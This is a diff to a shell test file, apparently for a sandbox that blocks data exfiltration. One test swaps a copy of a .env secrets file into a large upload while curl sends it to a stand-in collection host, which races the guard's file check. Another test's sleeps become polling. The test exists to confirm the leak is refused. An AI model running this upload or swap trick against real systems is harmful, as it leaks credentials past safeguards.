@@ -286,7 +286,8 @@ refused() { # LINE: a shell's; nothing of the secret may arrive
 	# long enough to be looked through that it is still going on
 	yes "all the margins of all the years" | head -c 300000000 >big
 	cp .env same
-	(sleep 0.1 && exec /bin/mv same big) 3>&- &
+	looked_at() { grep -qs " $PWD/big\$" /proc/[0-9]*/maps; }
+	(until_true looked_at && exec /bin/mv same big) 3>&- &
 	swap=$!
 	run curl -s "${there[@]}" -d @big http://collect.example.net/up
 	wait "$swap"
@@ -508,7 +509,6 @@ c.recv(1)' "$down"
 @test "nc and socat to this machine" {
 	printf 'hello\n' | nc -N 127.0.0.1 "$tcp"
 	printf 'world\n' | socat - "TCP:127.0.0.1:$tcp"
-	sleep 0.2
-	arrived hello
-	arrived world
+	until_true arrived hello
+	until_true arrived world
 }
